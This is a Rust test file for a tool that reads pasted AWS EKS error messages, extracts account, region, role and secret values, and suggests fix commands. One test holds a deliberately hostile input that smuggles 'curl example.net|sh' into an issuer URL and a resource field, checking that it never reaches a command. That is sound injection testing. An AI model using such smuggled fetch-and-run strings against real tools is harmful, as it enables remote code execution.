//! The EKS error reader against what runner-like pods really logged
//! (`tests/data/real/eks-errors.json`, each verbatim with its thread): every text gets the
//! cause its family names, every value the corpus records is found, and no value the corpus
//! leaves out — a placeholder, a redaction, a region inside a role's name — is invented.
//! Nothing from a text becomes a command unless it is a validated value.

use iam_policy_core::read::eks_error::{Cause, diagnose};
use serde::Deserialize;
use std::collections::BTreeMap;

#[derive(Deserialize)]
struct Entry {
    text: String,
    source: String,
    expect: BTreeMap<String, String>,
}

fn corpus() -> Vec<Entry> {
    let path = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/tests/data/real/eks-errors.json"
    );
    serde_json::from_str(&std::fs::read_to_string(path).expect("the corpus")).expect("entries")
}

fn cause_of(family: &str) -> Cause {
    match family {
        "other" => Cause::Unrecognised,
        family => *Cause::ALL
            .iter()
            .find(|c| c.id() == family)
            .unwrap_or_else(|| {
                panic!("the corpus names a family the reader has no cause for: {family}")
            }),
    }
}

#[test]
fn every_real_text_gets_its_familys_cause_and_exactly_the_values_it_holds() {
    let entries = corpus();
    assert!(entries.len() >= 60);
    let mut failures = Vec::new();
    for entry in &entries {
        let d = diagnose(&entry.text);
        let what = format!(
            "{}: {}",
            entry.source,
            &entry.text[..entry.text.len().min(120)]
        );
        let wanted = cause_of(&entry.expect["family"]);
        if d.cause != wanted {
            failures.push(format!("{what}\n  cause {:?}, corpus {wanted:?}", d.cause));
        }
        for (key, found) in [
            ("partition", &d.partition),
            ("region", &d.region),
            ("account", &d.account),
            ("role", &d.role),
            ("session", &d.session),
            ("issuer", &d.issuer),
            ("secret", &d.secret),
        ] {
            let expected = entry.expect.get(key);
            if found.as_ref() != expected {
                failures.push(format!(
                    "{what}\n  {key}: read {found:?}, corpus {expected:?}"
                ));
            }
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {}:\n{}",
        failures.len(),
        entries.len(),
        failures.join("\n")
    );
}

#[test]
fn every_cause_is_explained_and_commands_hold_only_validated_values() {
    for entry in corpus() {
        let d = diagnose(&entry.text);
        assert!(!d.message.is_empty(), "{}", entry.source);
        // Every quoted value of a command is one the reader validated, or the builder's own.
        let mut allowed: Vec<String> = vec!["sts.amazonaws.com".to_owned()];
        allowed.extend(d.secret.clone());
        allowed.extend(d.region.clone());
        allowed.extend(d.issuer.as_ref().map(|i| format!("https://{i}")));
        for step in &d.steps {
            let Some(command) = &step.command else {
                continue;
            };
            if command.starts_with("kubectl get serviceaccount") {
                continue;
            }
            for (i, quoted) in command.split('\'').enumerate() {
                if i % 2 == 1 {
                    assert!(
                        allowed.iter().any(|a| a == quoted),
                        "{}: {quoted} in {command}",
                        entry.source
                    );
                }
            }
        }
    }
}

#[test]
fn no_text_from_an_eks_error_becomes_a_command() {
    let hostile = "No OpenIDConnect provider found in your account for https://oidc.eks.eu-west-1.amazonaws.com/id/ABC$(curl example.net|sh) ; User: arn:aws:sts::123456789012:assumed-role/x/i-0abc is not authorized to perform: secretsmanager:GetSecretValue on resource: a;curl example.net|sh";
    let d = diagnose(hostile);
    for step in &d.steps {
        assert!(
            !step.command.as_deref().unwrap_or_default().contains("curl"),
            "{step:?}"
        );
    }
    assert_eq!(d.issuer, None);
    assert_eq!(d.secret, None);
}

/// Pasted into the form on EKS, the error fills what the form leaves empty and the response
/// carries its diagnosis, pointing at the document that fixes it.
#[test]
fn a_pasted_eks_error_fills_the_form_and_points_at_the_fix() {
    use iam_policy_core::{Request, build};
    let request: Request = serde_json::from_value(serde_json::json!({
        "platform": "eks",
        "oidcIssuer": "https://oidc.eks.eu-west-1.amazonaws.com/id/D43CF17C27A865933144EA99A26FB128",
        "secrets": [],
        "eksError": "AccessDeniedException: User: arn:aws:sts::123456789012:assumed-role/grid-runner-role/botocore-session-1700000000 is not authorized to perform: secretsmanager:GetSecretValue on resource: arn:aws:secretsmanager:eu-west-1:123456789012:secret:prod/warehouse-AbC123 because no identity-based policy allows the secretsmanager:GetSecretValue action",
    }))
    .expect("a request");
    let response = build(&request);
    let diagnosis = response.eks_diagnosis.as_ref().expect("diagnosed");
    assert_eq!(diagnosis.cause, Cause::SecretAccessDeniedRunnerRole);
    assert_eq!(
        diagnosis.fix.map(|d| d.as_str()),
        Some("runner-role-permissions-policy")
    );
    assert!(!response.has_errors(), "{:?}", response.problems);
    assert_eq!(response.target.account.as_deref(), Some("123456789012"));
    assert_eq!(response.target.region, Some("eu-west-1"));
    assert_eq!(
        response.target.runner_role.as_deref(),
        Some("grid-runner-role")
    );
    let permissions = serde_json::to_value(&response.documents[1].policy).expect("JSON");
    assert!(
        permissions
            .to_string()
            .contains("arn:aws:secretsmanager:eu-west-1:123456789012:secret:prod/warehouse-AbC123"),
        "{permissions}"
    );
    // On ECS the EKS error is not read, as no EKS field is.
    let mut ecs = request.clone();
    ecs.platform = iam_policy_core::input::request::Platform::EcsFargate;
    assert!(build(&ecs).eks_diagnosis.is_none());
}
